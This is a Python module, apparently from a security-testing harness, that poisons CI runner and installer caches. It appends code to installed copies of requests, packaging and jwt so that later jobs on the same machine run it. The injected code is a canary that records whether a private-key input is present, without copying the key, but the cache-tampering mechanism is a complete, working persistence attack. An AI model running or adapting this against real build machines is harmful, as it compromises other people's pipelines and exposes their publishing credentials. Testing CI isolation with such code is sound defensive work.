"""Patch what the next job on this machine may run: packages in every folder that can outlive a job.

What is patched writes to the file of the option `loot` when it runs beside a private key; never the
key. The file of the option `patched` gets the number of patched files.
"""

from pathlib import Path
from typing import Any

#: The caches of the runner and of installers, and the folder that the runner should empty.
_FOLDERS = ("RUNNER_TOOL_CACHE", "AGENT_TOOLSDIRECTORY", "RUNNER_TEMP", "UV_CACHE_DIR")
#: Each is imported by every stage that publishes.
_MODULES = ("requests/__init__.py", "packaging/__init__.py", "jwt/__init__.py")
_PATCH = """
import os as _os
if _os.environ.get("INPUT_PRIVATE_KEY"):
    with open({loot!r}, "a") as _loot:
        _loot.write("key\\n")
"""


def strike(job: Any) -> None:
    """Patch every package of these names."""
    patch = _PATCH.format(loot=job.options["loot"])
    folders = {Path(job.environ[name]).resolve() for name in _FOLDERS if job.environ.get(name)}
    paths = {
        path
        for folder in folders
        for module in _MODULES
        for path in folder.rglob(module)
        if path.parent.parent.name == "site-packages" or "archive-v0" in path.parts
    }
    for path in paths:
        text = path.read_text(encoding="utf-8")
        path.unlink()  # it may be a link into an installer's cache
        path.write_text(text + patch, encoding="utf-8")
    Path(job.options["patched"]).write_text(str(len(paths)), encoding="utf-8")
